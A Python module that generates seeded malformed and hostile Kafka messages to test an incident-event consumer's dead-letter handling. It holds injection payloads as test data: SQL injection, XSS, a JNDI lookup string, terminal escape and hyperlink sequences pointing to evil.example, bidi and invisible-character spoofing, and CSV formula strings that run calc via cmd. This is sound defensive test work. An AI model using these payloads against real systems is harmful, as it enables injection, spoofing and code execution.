"""Seeded hostile Kafka messages, each with the dead-letter reason it must end with.

Plain Python (no hypothesis) so the benchmarks can import it; tests/hostile.py drives the
same catalogue from hypothesis. ``hostile_messages`` mutates and attacks a list of valid
wire events (e.g. ``simulate`` output); ``interleave`` mixes both into one publishing order.

What the expected reasons assume (the consumer's contract, DESIGN §2):
- every message is consumed after the valid events published before it on the same
  topic-partition (true of Kafka), and ``interleave`` puts each attack after the valid event
  it answers;
- ``escalated_after_resolution`` needs the resolution applied first, and the resolution
  travels on another topic: publish those last (after a drain) where topics are consumed
  at different speeds;
- lifecycle violations that a later fact could still fix (``already_resolved``,
  ``rated_before_resolution``, ``not_paused``, ``escalated_after_resolution``,
  ``closed_while_open``, ``already_closed``, ``incident_closed``, ``orphan``) wait parked
  until every partition has been read to its end and they are older than the newest event
  time by the orphan time (default 7 days): their event times lie in the first half of the
  valid traffic's span, and no valid fact of their incident could cure them (none at their
  instant or between the fact they contradict and them);
- an identifier (``source``, ``channel``, ``category``, ``assignee`` …, see ``IDENTIFIERS``)
  holding a control or invisible character is a ``schema_violation``; free text (summary,
  reasons but a pause's, comments) keeps such characters, and so does the store.
"""

from __future__ import annotations

import json
import uuid
from collections import Counter
from collections.abc import Callable, Sequence
from datetime import datetime, timedelta
from random import Random
from typing import Any

Event = dict[str, Any]
# (topic key: received|escalated|resolved|thanked|lifecycle, message key, value, reason)
Hostile = tuple[str, bytes, bytes, str]

DEFAULT_MAX_BYTES = 64 * 1024
SQL_AND_HTML = (
    "'; DROP TABLE stored_events; --",
    "\" OR 1=1 --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "Robert'); DELETE FROM dead_letters;--",
    "{{7*7}} ${jndi:ldap://x/a}",
)
# Terminal attacks (issue 13): refused in identifiers (schema_violation), kept in free text.
TERMINAL_ESCAPES = (
    "\x1b]0;PWNED\x07\x1b[2J\x1b[31m",  # OSC 0 window title (BEL-ended), clear screen, red
    "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x9b2J\x9d0;PWNED\x9c",  # the same in C1 controls: CSI, OSC, ST
    "refund\x08\x08\x08\x08\x08\x08denied\x07",  # backspaces over the text, then BEL
    "exchange\rREFUSED",  # carriage return: the rest overwrites the line
    "two\nlines", "tab\tbed", "del\x7f",
)
# Invisible or reordering characters: refused in identifiers, as they make one value look
# like another (bidi overrides and isolates, zero-width, BOM, line separator, tags).
INVISIBLE_CHARACTERS = (
    "tech\u202etroppus", "\u2066refund\u2069", "\u202dphone", "sup\u200bplier",
    "\ufeffemail", "\u200fchat", "chat\u2028phone", "store\U000e0041\U000e0042",
)
# Printable, so contract-valid, but live code if rendered as such: rich markup (styles,
# hyperlinks), spreadsheet formulas (OWASP CSV injection), HTML.
LIVE_CODE = (
    "[bold red]ALERT[/bold red]", "[link=http://evil.example]click[/link]", ":warning: [blink]x",
    '=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "<script>alert(1)</script>",
)
# Free text keeps all of these: they reach the store and must be shown safely.
FREE_TEXT_ATTACKS = SQL_AND_HTML + TERMINAL_ESCAPES + LIVE_CODE
# The identifier-like fields of each type (printable only), beside the source every type has.
IDENTIFIERS = {
    "incident.received": ("channel", "department", "category", "store"),
    "incident.escalated": ("escalated_to",), "incident.resolved": ("resolution", "root_cause"),
    "incident.thanked": ("channel", "department"), "incident.paused": ("reason",),
    "incident.reassigned": ("department", "assignee"),
    "incident.reclassified": ("category", "channel"),
}  # fmt: skip
_NOT_JSON_START = bytes(b for b in range(256) if b not in b'{["-0123456789tfnNI \t\r\n"')
_BAD_UTF8 = (b"\xff", b"\x80", b"\xc3\x28", b"\xc0\xaf", b"\xe2\x82", b"\xed\xa0\x80")
_ABSURD_TIMES = (
    "0001-01-01T00:00:00+03:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59-03:00",
    "9999-12-31T23:59:59Z", "2025-03-03T10:00:00+25:00", "2025-03-03T10:00:00-24:30",
    "1969-12-31T23:59:59Z", "2150-01-01T00:00:00Z",
)  # fmt: skip
_CONCERN = {"received": "received", "escalated": "escalated", "resolved": "resolved",
            "thanked": "thanked"}  # fmt: skip


def publish_raw(
    bootstrap: str, topic_of: Callable[[str], str], messages: Sequence[tuple[str, bytes, bytes, str | None]]
) -> Counter[tuple[str, int, int, str]]:
    """Send every message as raw bytes, in order, to ``topic_of(topic key)``.

    Returns the dead letters the hostile ones must become: (topic, partition, offset, reason).
    """
    from kafka import KafkaProducer  # only what publishes needs Kafka

    producer = KafkaProducer(bootstrap_servers=bootstrap, acks="all", max_request_size=2**20)
    sent = [(producer.send(topic_of(c), key=k, value=v), r) for c, k, v, r in messages]
    expected: Counter[tuple[str, int, int, str]] = Counter()
    for future, reason in sent:
        meta = future.get(timeout=120)
        if reason is not None:
            expected[(meta.topic, meta.partition, meta.offset, reason)] += 1
    producer.close()
    return expected


def concern_of(event_type: str) -> str:
    """The topic key an event type is published under by default (DESIGN §2)."""
    return _CONCERN.get(event_type.removeprefix("incident."), "lifecycle")


def hostile_messages(
    n: int, seed: int, valid_events: Sequence[Event], max_bytes: int = DEFAULT_MAX_BYTES
) -> list[Hostile]:
    """``n`` hostile messages against ``valid_events``, each with its expected reason.

    Same arguments, same bytes. Attacks that need a particular incident (a second receipt,
    a double resolution, an event_id conflict …) each take an incident of their own; when
    none is left, a context-free attack takes their place.
    """
    rng = Random(seed)
    world = World(valid_events, rng, max_bytes)
    return [world.attack(rng.choice(ATTACKS)) for _ in range(n)]


def interleave(
    valid_events: Sequence[Event], hostile: Sequence[Hostile], seed: int
) -> list[tuple[str, bytes, bytes, str | None]]:
    """One publishing order: the valid events in their order, attacks mixed in.

    An attack on an incident goes somewhere after the last valid event of that incident
    at or before its event time (and after the event whose id it reuses); any other
    attack goes anywhere. Valid events carry the reason None.
    """
    rng = Random(seed)
    position_of_id = {str(e["event_id"]): i for i, e in enumerate(valid_events)}
    by_incident: dict[str, list[tuple[datetime, int]]] = {}
    for i, e in enumerate(valid_events):
        by_incident.setdefault(str(e["incident_id"]), []).append((_instant(e["occurred_at"]), i))
    slots: dict[int, list[tuple[str, bytes, bytes, str | None]]] = {}
    for concern, key, value, reason in hostile:
        earliest = _earliest_slot(value, position_of_id, by_incident)
        slot = rng.randint(earliest, len(valid_events))
        slots.setdefault(slot, []).append((concern, key, value, reason))
    ordered: list[tuple[str, bytes, bytes, str | None]] = list(slots.get(0, []))
    for i, event in enumerate(valid_events, start=1):
        ordered.append((concern_of(str(event["type"])), _key(event), _bytes(event), None))
        ordered.extend(slots.get(i, []))
    return ordered


# --- the catalogue ---------------------------------------------------------------------------


class World:
    """The valid traffic as the attacks see it: pools of incidents to attack, one each."""

    def __init__(self, events: Sequence[Event], rng: Random, max_bytes: int) -> None:
        self.rng = rng
        self.max_bytes = max_bytes
        self.events = list(events)
        times = [_instant(e["occurred_at"]) for e in events]
        middle = min(times) + (max(times) - min(times)) / 2
        incidents: dict[str, list[Event]] = {}
        for e in events:
            incidents.setdefault(str(e["incident_id"]), []).append(e)

        def kinds(history: list[Event]) -> list[str]:
            return [str(e["type"]).removeprefix("incident.") for e in history]

        def pool(wanted: Callable[[list[str], list[Event]], bool]) -> list[list[Event]]:
            found = [h for h in incidents.values() if wanted(kinds(h), h)]
            rng.shuffle(found)
            return found

        def early(e: Event) -> bool:
            return _instant(e["occurred_at"]) < middle

        def once_resolved(k: list[str], h: list[Event]) -> bool:
            resolved = [e for e in h if e["type"] == "incident.resolved"]
            return (k[0] == "received" and k.count("resolved") == 1 and "reopened" not in k
                    and early(resolved[0]))  # fmt: skip

        self.received = pool(lambda k, h: k[0] == "received")
        self.resolved_once = pool(once_resolved)
        def unresolved_for_an_hour(k: list[str], h: list[Event]) -> bool:
            hour = _instant(h[0]["occurred_at"]) + timedelta(hours=1)
            resolutions = [_instant(e["occurred_at"]) for e in h if e["type"] == "incident.resolved"]
            return k[0] == "received" and early(h[0]) and all(r > hour for r in resolutions)

        self.unresolved_for_an_hour = pool(unresolved_for_an_hour)

        def closed_once(k: list[str], h: list[Event]) -> bool:
            closures = [e for e in h if e["type"] == "incident.closed"]
            return (k[0] == "received" and len(closures) == 1 and "reopened" not in k
                    and early(closures[0]))  # fmt: skip

        self.closed_once = pool(closed_once)
        self.never_paused = pool(
            lambda k, h: k[0] == "received" and "paused" not in k and early(h[0])
        )
        self.standalone = pool(lambda k, h: k == ["thanked"] and bool(h[0].get("standalone")))
        self.template = events[0] if events else _fallback_event()
        self.middle = middle

    def take(self, pool: list[list[Event]]) -> list[Event] | None:
        return pool.pop() if pool else None

    def new_id(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def attack(self, make: Callable[[World], Hostile | None]) -> Hostile:
        return make(self) or self.rng.choice(CONTEXT_FREE)(self)

    def any_event(self) -> Event:
        return dict(self.rng.choice(self.events)) if self.events else dict(self.template)


def _random_bytes(w: World) -> Hostile:
    body = bytes([w.rng.choice(_NOT_JSON_START)]) + w.rng.randbytes(w.rng.randint(0, 300))
    return _junk(w, body, "not_json")


def _truncated_json(w: World) -> Hostile:
    raw = _bytes(w.any_event())
    return _junk(w, raw[: w.rng.randint(1, len(raw) - 1)], "not_json")


def _invalid_utf8(w: World) -> Hostile:
    raw = _bytes(w.any_event())
    junk = w.rng.choice(_BAD_UTF8)
    return _junk(w, raw.replace(b'"source":"', b'"source":"' + junk, 1), "not_json")


def _raw_nul(w: World) -> Hostile:
    raw = _bytes(w.any_event())
    return _junk(w, raw.replace(b'"source":"', b'"source":"\x00', 1), "not_json")


def _lone_surrogate(w: World) -> Hostile:
    # "\\ud800" spelled in JSON: not a Unicode character, so the message is not JSON text.
    raw = _bytes(w.any_event())
    return _junk(w, raw.replace(b'"source":"', b'"source":"\\ud800', 1), "not_json")


def _escaped_nul(w: World) -> Hostile:
    event = w.any_event()
    event["source"] = "store\u0000-014"
    return _as_event(event, "schema_violation")


def _not_an_object(w: World) -> Hostile:
    value = w.rng.choice(([w.any_event()], 42, "incident.received", None, [], True))
    return _junk(w, json.dumps(value).encode(), "not_an_object")


def _wrong_type(w: World) -> Hostile:
    event = w.any_event()
    name, value = w.rng.choice(
        (("occurred_at", 1741000000), ("source", ["store-014"]), ("incident_id", 7),
         ("event_id", 12345), ("occurred_at", {"at": "2025-03-03"}), ("source", True))
    )  # fmt: skip
    event[name] = value
    return _as_event(event, "schema_violation")


def _missing_field(w: World) -> Hostile:
    event = w.any_event()
    del event[w.rng.choice(("event_id", "incident_id", "occurred_at", "source"))]
    return _as_event(event, "schema_violation")


def _missing_type(w: World) -> Hostile:
    event = w.any_event()
    del event["type"]
    return _as_event(event, "missing_type")


def _unknown_type(w: World) -> Hostile:
    event = w.any_event()
    event["type"] = w.rng.choice(("incident.archived", "incident.received.v1", "", *SQL_AND_HTML))
    return _as_event(event, "unknown_type")


def _unsupported_version(w: World) -> Hostile:
    event = w.any_event()
    event["schema_version"] = w.rng.choice((2, 0, -1, 10**9, "1", 1.5, None))
    return _as_event(event, "unsupported_schema_version")


def _naive_time(w: World) -> Hostile:
    event = w.any_event()
    event["occurred_at"] = _instant(event["occurred_at"]).replace(tzinfo=None).isoformat()
    return _as_event(event, "schema_violation")


def _absurd_time(w: World) -> Hostile:
    event = w.any_event()
    event["occurred_at"] = w.rng.choice(_ABSURD_TIMES)
    return _as_event(event, "schema_violation")


def _sql_in_incident_id(w: World) -> Hostile:
    event = w.any_event()
    event["incident_id"] = w.rng.choice(SQL_AND_HTML)
    return _as_event(event, "schema_violation")


def _text_over_its_bound(w: World) -> Hostile:
    event = w.any_event()
    event["source"] = (w.rng.choice(SQL_AND_HTML) * 20)[: w.rng.randint(65, 200)]
    return _as_event(event, "schema_violation")


def _control_in_identifier(w: World) -> Hostile:
    return _in_identifier(w, TERMINAL_ESCAPES)


def _invisible_in_identifier(w: World) -> Hostile:
    return _in_identifier(w, INVISIBLE_CHARACTERS)


def _in_identifier(w: World, values: Sequence[str]) -> Hostile:
    event = w.any_event()
    names = ("source", *(n for n in IDENTIFIERS.get(str(event["type"]), ()) if n in event))
    event[w.rng.choice(names)] = w.rng.choice(values)
    return _as_event(event, "schema_violation")


def _reclassified_naming_nothing(w: World) -> Hostile:
    event = {k: v for k, v in w.any_event().items() if k in _COMMON}
    event["type"] = "incident.reclassified"
    # Absent and null say the same: nothing changes, and a correction must name something.
    for name in w.rng.sample(("priority", "category", "channel"), w.rng.randint(0, 3)):
        event[name] = None
    return _as_event(event, "schema_violation")


def _bad_sequence(w: World) -> Hostile:
    event = w.any_event()
    event["sequence"] = w.rng.choice((-1, -(2**63), 2**63, 1.5, 3.0, "3", True, [1], {"n": 1}))
    return _as_event(event, "schema_violation")


def _oversized(w: World) -> Hostile:
    raw = _bytes(w.any_event())
    size = w.rng.randint(w.max_bytes + 1, w.max_bytes + 4096)
    return _junk(w, raw + b" " * (size - len(raw)), "oversized")


def _just_under_the_limit(w: World) -> Hostile:
    # Fits the size limit exactly, but its text field is far over the 2000 characters allowed.
    event = {**w.any_event(), "type": "incident.reopened"}
    event = {k: v for k, v in event.items() if k in _COMMON}
    event["reason"] = ""
    room = w.max_bytes - len(_bytes(event))
    event["reason"] = "x" * room
    assert len(_bytes(event)) == w.max_bytes
    return _as_event(event, "schema_violation")


def _key_mismatch(w: World) -> Hostile:
    event = w.any_event()
    event["event_id"] = w.new_id()
    concern, _, value, _ = _as_event(event, "key_mismatch")
    return concern, b"NOT-" + _key(event), value, "key_mismatch"


def _second_receipt(w: World) -> Hostile | None:
    first = _first(w, w.received)
    if first is None:
        return None
    event = {**first, "event_id": w.new_id(), "summary": w.rng.choice(FREE_TEXT_ATTACKS),
             "occurred_at": _later(first["occurred_at"], minutes=5)}  # fmt: skip
    return _as_event(event, "already_received")


def _resolved_twice(w: World) -> Hostile | None:
    resolution = _first(w, w.resolved_once, "incident.resolved")
    if resolution is None:
        return None
    event = {**resolution, "event_id": w.new_id(),
             "occurred_at": _later(resolution["occurred_at"], minutes=1)}  # fmt: skip
    event.pop("completed_at", None)
    return _as_event(event, "already_resolved")


def _escalated_after_resolution(w: World) -> Hostile | None:
    resolution = _first(w, w.resolved_once, "incident.resolved")
    if resolution is None:
        return None
    event = _lifecycle(resolution, w.new_id(), "incident.escalated", minutes=1)
    event["escalated_to"] = "tech_support"
    event["reason"] = w.rng.choice(FREE_TEXT_ATTACKS)
    return _as_event(event, "escalated_after_resolution")


def _rated_before_resolution(w: World) -> Hostile | None:
    first = _first(w, w.unresolved_for_an_hour)
    if first is None:
        return None
    event = _lifecycle(first, w.new_id(), "incident.rated", minutes=30)
    event["rating"] = "bad"
    event["comment"] = w.rng.choice(FREE_TEXT_ATTACKS)
    return _as_event(event, "rated_before_resolution")


def _resumed_never_paused(w: World) -> Hostile | None:
    first = _first(w, w.never_paused)
    if first is None:
        return None
    event = _lifecycle(first, w.new_id(), "incident.resumed", minutes=20)
    return _as_event(event, "not_paused")


def _closed_while_open(w: World) -> Hostile | None:
    first = _first(w, w.unresolved_for_an_hour)
    if first is None:
        return None
    event = _lifecycle(first, w.new_id(), "incident.closed", minutes=30)
    event["reason"] = w.rng.choice(FREE_TEXT_ATTACKS)
    return _as_event(event, "closed_while_open")


def _closed_twice(w: World) -> Hostile | None:
    closure = _first(w, w.closed_once, "incident.closed")
    if closure is None:
        return None
    event = _lifecycle(closure, w.new_id(), "incident.closed", minutes=1)
    return _as_event(event, "already_closed")


def _changed_after_closure(w: World) -> Hostile | None:
    closure = _first(w, w.closed_once, "incident.closed")
    if closure is None:
        return None
    if w.rng.random() < 0.5:
        event = _lifecycle(closure, w.new_id(), "incident.reassigned", minutes=1)
        event["department"] = w.rng.choice(("tech_support", "customer_service", *SQL_AND_HTML, *LIVE_CODE))
    else:
        event = _lifecycle(closure, w.new_id(), "incident.reclassified", minutes=1)
        name, value = w.rng.choice((("priority", "critical"), ("category", "delivery"),
                                    ("channel", "chat")))  # fmt: skip
        event[name] = value
    return _as_event(event, "incident_closed")


def _escalated_standalone_thanks(w: World) -> Hostile | None:
    first = _first(w, w.standalone)
    if first is None:
        return None
    event = _lifecycle(first, w.new_id(), "incident.escalated", minutes=10)
    event["escalated_to"] = "store_manager"
    return _as_event(event, "standalone_thanks_is_closed")


def _orphan(w: World) -> Hostile:
    at = (w.middle - timedelta(days=1)).isoformat()
    event = {"event_id": w.new_id(), "type": "incident.resolved", "schema_version": 1,
             "incident_id": f"GHOST-{w.rng.getrandbits(32):08x}", "occurred_at": at,
             "source": "store-014", "resolution": "refund"}  # fmt: skip
    return _as_event(event, "orphan")


def _event_id_conflict(w: World) -> Hostile | None:
    history = w.take(w.received)
    if history is None:
        return None
    original = w.rng.choice(history)
    changed = dict(original)
    field, value = w.rng.choice(
        (("source", "store-666"), ("occurred_at", _later(original["occurred_at"], minutes=1)))
    )
    changed[field] = value
    return _as_event(changed, "event_id_conflict")


CONTEXT_FREE: tuple[Callable[[World], Hostile], ...] = (
    _random_bytes, _truncated_json, _invalid_utf8, _lone_surrogate, _raw_nul, _escaped_nul, _not_an_object,
    _wrong_type, _missing_field, _missing_type, _unknown_type, _unsupported_version,
    _naive_time, _absurd_time, _sql_in_incident_id, _text_over_its_bound, _oversized,
    _just_under_the_limit, _key_mismatch, _orphan, _reclassified_naming_nothing, _bad_sequence,
    _control_in_identifier, _invisible_in_identifier,
)  # fmt: skip
IN_CONTEXT: tuple[Callable[[World], Hostile | None], ...] = (
    _second_receipt, _resolved_twice, _escalated_after_resolution, _rated_before_resolution,
    _resumed_never_paused, _escalated_standalone_thanks, _event_id_conflict,
    _closed_while_open, _closed_twice, _changed_after_closure,
)  # fmt: skip
ATTACKS: tuple[Callable[[World], Hostile | None], ...] = CONTEXT_FREE + IN_CONTEXT
_COMMON = ("event_id", "type", "schema_version", "incident_id", "occurred_at", "source")


# --- helpers ---------------------------------------------------------------------------------


def _first(w: World, pool: list[list[Event]], event_type: str | None = None) -> Event | None:
    """The first event (of ``event_type``) of an incident of its own from ``pool``; None
    when the pool is empty."""
    history = w.take(pool)
    if history is None:
        return None
    return next(e for e in history if event_type is None or e["type"] == event_type)


def _bytes(event: Event) -> bytes:
    return json.dumps(event, separators=(",", ":")).encode()


def _key(event: Event) -> bytes:
    return str(event.get("incident_id", "")).encode()


def _as_event(event: Event, reason: str) -> Hostile:
    kind = event.get("type")
    concern = concern_of(kind) if isinstance(kind, str) else "lifecycle"
    key = event["incident_id"] if isinstance(event.get("incident_id"), str) else "X"
    return concern, key.encode(), _bytes(event), reason


def _junk(w: World, value: bytes, reason: str) -> Hostile:
    concern = w.rng.choice(("received", "escalated", "resolved", "thanked", "lifecycle"))
    return concern, b"JUNK", value, reason


def _instant(text: object) -> datetime:
    return datetime.fromisoformat(str(text).replace("Z", "+00:00"))


def _later(text: object, minutes: float) -> str:
    return (_instant(text) + timedelta(minutes=minutes)).isoformat()


def _lifecycle(after: Event, event_id: str, event_type: str, minutes: float) -> Event:
    return {"event_id": event_id, "type": event_type, "schema_version": 1,
            "incident_id": after["incident_id"], "occurred_at": _later(after["occurred_at"], minutes),
            "source": "callcentre"}  # fmt: skip


def _fallback_event() -> Event:
    return {"event_id": "00000000-0000-4000-8000-000000000000", "type": "incident.received",
            "schema_version": 1, "incident_id": "INC-0", "occurred_at": "2025-03-03T10:00:00+03:00",
            "source": "store-014", "channel": "email", "department": "retail_store",
            "category": "product_quality"}  # fmt: skip


def _earliest_slot(
    value: bytes,
    position_of_id: dict[str, int],
    by_incident: dict[str, list[tuple[datetime, int]]],
) -> int:
    try:
        event = json.loads(value)
        incident_id, at = str(event["incident_id"]), _instant(event["occurred_at"])
        earliest = position_of_id.get(str(event.get("event_id")), -1) + 1
        for moment, index in by_incident.get(incident_id, []):
            if moment <= at:
                earliest = max(earliest, index + 1)
    except (ValueError, TypeError, KeyError, AttributeError, OverflowError):
        return 0  # not an event of any incident: anywhere will do
    return earliest
